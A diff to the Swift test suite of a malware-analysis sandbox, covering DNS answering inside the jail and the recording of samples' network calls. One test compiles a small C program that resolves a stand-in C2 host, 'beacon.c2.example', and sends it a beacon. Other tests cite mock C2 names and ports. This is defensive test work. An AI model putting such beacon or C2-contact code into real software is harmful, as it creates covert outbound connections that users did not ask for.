@@ -501,7 +501,7 @@ struct SandboxTests {
                 bind ok
                 listen ok
                 bind 22 Permission denied
-                sendto Network is unreachable
+                sendto ok
                 sendmsg Network is unreachable
                 raw Operation not permitted
                 packet Operation not permitted
@@ -520,7 +520,7 @@ struct SandboxTests {
             [0x12, 0x34, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0, 2] + Array("c2".utf8) + [7] + Array("example".utf8) + [7]
             + Array("invalid".utf8) + [0, 0, 1, 0, 1]
         var query = SandboxReport.NetworkAttempt(
-            syscall: "sendto", family: "AF_INET", address: "8.8.8.8", port: 53, result: "ENETUNREACH")
+            syscall: "sendto", family: "AF_INET", address: "8.8.8.8", port: 53, result: "ok")
         query.sentBytes = question.count
         query.sent = PathBytes(question).displayString
         query.sentBase64 = PathBytes(question).base64
@@ -549,13 +549,13 @@ struct SandboxTests {
             .init(syscall: "connect", family: "AF_UNIX", address: "@" + name, result: "ECONNREFUSED"),
         ]
         #expect(report.network == expected, "\(report.network)")
-        // The DNS query's question, though it was never delivered.
+        // The DNS query's question, delivered to the jail's name server and answered.
         #expect(
-            report.lookups.filter { $0.request.hasPrefix("DNS") }.map { "\($0.request) \($0.name)" }
-                == ["DNS A c2.example.invalid"], "\(report.lookups)")
+            report.lookups.filter { $0.request.hasPrefix("DNS") }.map { "\($0.request) \($0.name) \($0.answer ?? "-")" }
+                == ["DNS A c2.example.invalid 198.18.0.1"], "\(report.lookups)")
         #expect(
             report.verdict.contains(
-                "It sent DNS queries of its own, not through glibc, for 1 name(s): c2.example.invalid (A); none reached a name server outside: the jail's own answered, or the query was not delivered."
+                "It sent DNS queries of its own, not through glibc, for 1 name(s): c2.example.invalid (A: 198.18.0.1); none reached a name server outside: the jail's own answered, or the query was not delivered."
             ), "\(report.verdict)")
         // The raw socket (the observer's refusal) and the packet socket (the filter's); the
         // calls answered as a host would are no refusals.
@@ -564,7 +564,7 @@ struct SandboxTests {
         #expect(
             report.verdict.contains {
                 $0.contains(
-                    "It tried to connect or send: AF_INET 198.51.100.3 9999 (ENETUNREACH); AF_INET 203.0.113.7 4444 (EISCONN); AF_INET 203.0.113.7 4444 (ok); AF_INET 8.8.8.8 53 (ENETUNREACH)"
+                    "It tried to connect or send: AF_INET 198.51.100.3 9999 (ENETUNREACH); AF_INET 203.0.113.7 4444 (EISCONN); AF_INET 203.0.113.7 4444 (ok); AF_INET 8.8.8.8 53 (ok)"
                 )
             }, "\(report.verdict)")
         #expect(
@@ -648,6 +648,68 @@ struct SandboxTests {
         #expect(
             builtIn.network.contains(
                 .init(syscall: "connect", family: "AF_INET", address: "8.8.8.8", port: 53, result: "ok")))
+    }
+
+    /// A resolver on an unconnected datagram socket (musl's, and Rust's through it) has its
+    /// query delivered to the jail's name server and gets the answer from the address it sent
+    /// to, as it checks; a second receive, with nothing waiting, fails as a non-blocking one does.
+    @Test func anUnconnectedResolverIsAnsweredFromItsServersAddress() throws {
+        defer { try? FileManager.default.removeItem(atPath: state) }
+        let report = try run("resolve-unconnected", ["cnc.example", "8.8.8.8"])
+        #expect(
+            report.stdout == """
+                sendto whole
+                from 8.8.8.8:53 (16) the server, id matches, rcode 0, address 198.18.0.1
+                again Resource temporarily unavailable
+
+                """, "\(report.stdout)")
+        // Recorded once, by the name server, with its answer and the sample's pid.
+        #expect(
+            report.lookups.map { "\($0.request) \($0.name) \($0.answer ?? "-") \($0.pid)" }
+                == ["DNS A cnc.example 198.18.0.1 \(report.processes.first?.pid ?? 0)"], "\(report.lookups)")
+        #expect(report.network.contains { $0.syscall == "sendto" && $0.port == 53 && $0.result == "ok" })
+        #expect(report.syscalls["recvfrom"] == 2, "\(report.syscalls)")
+    }
+
+    /// A static musl program resolves its C2 by name (musl's own resolver, never glibc's nscd
+    /// socket), connects there and sends its beacon: all of it on record under the name.
+    @Test(.enabled(if: FileManager.default.isExecutableFile(atPath: "/usr/bin/musl-gcc"), "musl-tools"))
+    func aMuslProgramResolvesAndConnectsByName() throws {
+        defer { try? FileManager.default.removeItem(atPath: state) }
+        try FileManager.default.createDirectory(atPath: state, withIntermediateDirectories: true)
+        let source = state + "/beacon.c"
+        try Data(
+            """
+            #include <netdb.h>
+            #include <stdio.h>
+            #include <sys/socket.h>
+            #include <unistd.h>
+            int main(void) {
+                struct addrinfo hints = { .ai_socktype = SOCK_STREAM }, *found;
+                int rc = getaddrinfo("beacon.c2.example", "8443", &hints, &found);
+                if (rc != 0) { printf("getaddrinfo: %s\\n", gai_strerror(rc)); return 1; }
+                int s = socket(found->ai_family, SOCK_STREAM, 0);
+                if (connect(s, found->ai_addr, found->ai_addrlen) != 0) { perror("connect"); return 2; }
+                printf("sent %zd\\n", write(s, "BEACON\\n", 7));
+                return 0;
+            }
+            """.utf8
+        ).write(to: URL(fileURLWithPath: source))
+        let binary = state + "/beacon"
+        let compiler = Process()
+        compiler.executableURL = URL(fileURLWithPath: "/usr/bin/musl-gcc")
+        compiler.arguments = ["-static", "-O2", "-o", binary, source]
+        try compiler.run()
+        compiler.waitUntilExit()
+        try #require(compiler.terminationStatus == 0)
+        let report = try SandboxRunner(directory: state + "/sandbox").run(path: PathBytes(binary))
+        #expect(report.stdout == "sent 7\n", "\(report.stdout) \(report.verdict)")
+        // Both questions (A and AAAA), the address given for the first.
+        #expect(
+            Set(report.lookups.map { "\($0.request) \($0.name) \($0.answer ?? "-")" })
+                == ["DNS A beacon.c2.example 198.18.0.1", "DNS AAAA beacon.c2.example -"], "\(report.lookups)")
+        let connect = report.network.first { $0.syscall == "connect" && $0.port == 8443 }
+        #expect(connect?.hostName == "beacon.c2.example" && connect?.sent == "BEACON\\x0a", "\(report.network)")
     }
 
     @Test(arguments: [
@@ -924,22 +986,25 @@ struct SandboxTests {
                 + "interpreter /opt/implant/bin/sh, which this host does not have either",
             "\(scriptReport.setupError ?? "")")
 
-        // /bin/true built against musl: the same program with musl's loader as its PT_INTERP.
+        // /bin/true built against uClibc (an IoT bot's libc): the same program with uClibc's
+        // loader as its PT_INTERP. (Not musl's: the tests install musl-tools, loader and all.)
         var elf = try [UInt8](Data(contentsOf: URL(fileURLWithPath: "/bin/true")))
         let glibcLoader = Array("/lib64/ld-linux-x86-64.so.2".utf8)
-        let muslLoader = Array("/lib/ld-musl-x86_64.so.1".utf8)
+        let foreignLoader = Array("/lib/ld-uClibc.so.0".utf8)
         let at = try #require(
             (0...(elf.count - glibcLoader.count)).first {
                 elf[$0..<($0 + glibcLoader.count)].elementsEqual(glibcLoader)
             })
-        elf.replaceSubrange(at..<(at + glibcLoader.count), with: muslLoader + [UInt8](repeating: 0, count: 3))
-        let musl = state + "/true-musl"
-        try Data(elf).write(to: URL(fileURLWithPath: musl))
-        let elfReport = try runner.run(path: PathBytes(musl))
+        elf.replaceSubrange(
+            at..<(at + glibcLoader.count),
+            with: foreignLoader + [UInt8](repeating: 0, count: glibcLoader.count - foreignLoader.count))
+        let uClibc = state + "/true-uclibc"
+        try Data(elf).write(to: URL(fileURLWithPath: uClibc))
+        let elfReport = try runner.run(path: PathBytes(uClibc))
         #expect(
             elfReport.setupError
                 == "the kernel would not execute it (execveat: No such file or directory): its dynamic loader "
-                + "(PT_INTERP) is /lib/ld-musl-x86_64.so.1, which this host does not have either",
+                + "(PT_INTERP) is /lib/ld-uClibc.so.0, which this host does not have either",
             "\(elfReport.setupError ?? "")")
         #expect(elfReport.verdict.first?.hasPrefix("The sample did not run: ") == true)
     }
